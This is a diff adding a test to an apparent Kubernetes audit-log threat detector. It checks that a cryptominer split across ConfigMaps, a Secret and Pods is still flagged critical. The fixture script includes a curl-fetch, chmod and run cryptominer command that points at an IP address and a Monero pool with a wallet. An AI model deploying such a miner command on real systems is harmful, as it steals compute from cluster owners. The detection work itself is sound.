@@ -84,4 +84,31 @@ describe('audit evasions (issue 12 review)', () => {
     assert.equal(miner?.severity, 'critical', JSON.stringify(ids(result)));
     assert.match(miner?.evidence.join('\n') ?? '', /judged from the patch body alone/);
   });
+  test('a miner split across a ConfigMap (script or env) and a Pod is judged as scan judges them together', async () => {
+    const script = `#!/bin/sh\ncurl -s http://45.9.148.21/d -o /tmp/dns-filter && chmod +x /tmp/dns-filter && /tmp/dns-filter -o 45.9.148.21:3333 -u ${WALLET} --cpu-max-threads-hint=60\n`;
+    const configMap = (name: string, data: Record<string, string>) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: NS }, data });
+    const pod = (name: string, container: Record<string, unknown>, spec: Record<string, unknown> = {}) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: NS }, spec: { containers: [{ name: 'main', image: 'tensorflow/tensorflow:latest', ...container }], ...spec } });
+    const events = [
+      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, name: 'boot', at: at(1), requestObject: configMap('boot', { 'run.sh': script }) }),
+      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p3', at: at(2), requestObject: pod('p3', { command: ['sh', '/boot/run.sh'], volumeMounts: [{ name: 'b', mountPath: '/boot' }] }, { volumes: [{ name: 'b', configMap: { name: 'boot' } }] }) }),
+      auditEvent({ verb: 'create', resource: 'configmaps', namespace: NS, at: at(3), requestObject: configMap('cfg', { POOL: 'stratum+tcp://pool.supportxmr.com:443', W: WALLET }) }),
+      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p4', at: at(4), requestObject: pod('p4', { command: ['sh', '-c', '/tmp/dns-filter -o $POOL -u $W'], envFrom: [{ configMapRef: { name: 'cfg' } }] }) }),
+      auditEvent({ verb: 'create', resource: 'secrets', namespace: NS, name: 'pool', at: at(5), requestObject: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'pool', namespace: NS }, stringData: { url: 'stratum+tcp://pool.supportxmr.com:443', wallet: WALLET } } }),
+      auditEvent({ verb: 'create', resource: 'pods', namespace: NS, name: 'p5', at: at(6), requestObject: pod('p5', { command: ['sh', '-c', '/tmp/dns-filter -o $P -u $W'], env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'pool', key: 'url' } } }, { name: 'W', valueFrom: { secretKeyRef: { name: 'pool', key: 'wallet' } } }] }) }),
+    ];
+    const result = await hunt(events);
+    const critical = (name: string) => result.findings.find((f) => f.ruleId === 'crypto-miner-workload' && f.resource.kind === 'Pod' && f.resource.name === name)?.severity;
+    assert.equal(critical('p3'), 'critical', JSON.stringify(result.findings.map((f) => [f.resource.name, f.severity])));
+    assert.equal(critical('p4'), 'critical');
+    assert.equal(critical('p5'), 'critical');
+
+    // Over the budget the ConfigMap is forgotten, and the pod that reads it says so.
+    const text = Buffer.from(jsonLines(events.slice(0, 2)));
+    async function* chunks(): AsyncGenerator<Buffer> {
+      yield text;
+    }
+    const tight = await huntAuditLogs([{ chunks: chunks(), display: 't.log' }], { rules: threatRules, limits: { maxConfigBytes: 64 } });
+    assert.equal(tight.findings.find((f) => f.resource.name === 'p3'), undefined);
+    assert.ok(tight.coverage.some((c) => c.resource?.name === 'p3' && /ConfigMap kubeflow-user-a\/boot.*forgotten/.test(c.reason)), JSON.stringify(tight.coverage));
+  });
 });
